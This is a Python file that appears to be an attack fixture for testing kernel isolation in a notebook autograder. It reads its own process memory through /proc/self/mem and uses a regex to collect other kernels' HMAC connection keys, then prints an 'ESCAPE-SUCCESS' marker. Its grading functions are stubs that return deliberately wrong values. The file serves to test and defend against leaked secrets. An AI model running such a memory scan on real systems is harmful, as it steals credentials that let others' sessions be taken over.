"""Attack: find earlier kernels' connection secrets in the memory this kernel inherited (see README.md)."""

import json
import os
import re
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
KEY = re.compile(rb'"key": ?"([0-9a-f]{8}-[0-9a-f]{24})"')


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _keys_in_memory():
    """Every HMAC key of a connection file found in this process's writable anonymous memory."""
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            fields = line.split()
            if "w" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 256 * 1024**2:
                continue
            try:
                memory.seek(start)
                found.update(KEY.findall(memory.read(end - start)))
            except (OSError, OverflowError, ValueError):
                continue
    return found


def _report():
    try:
        with open("/tmp/.kernel/kernel.json") as handle:
            own = json.load(handle)["key"].encode()
    except (OSError, ValueError, KeyError):
        own = None
    others = _keys_in_memory() - {own}
    if others:
        _say(f"{MARK} keys of other kernels in this kernel's memory: {sorted(k[:8] for k in others)}")
    else:
        _say("no other kernel's key in this kernel's memory")


if "ipykernel" in sys.modules:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        _say("ending this kernel: the grader starts the next one")
        os._exit(1)
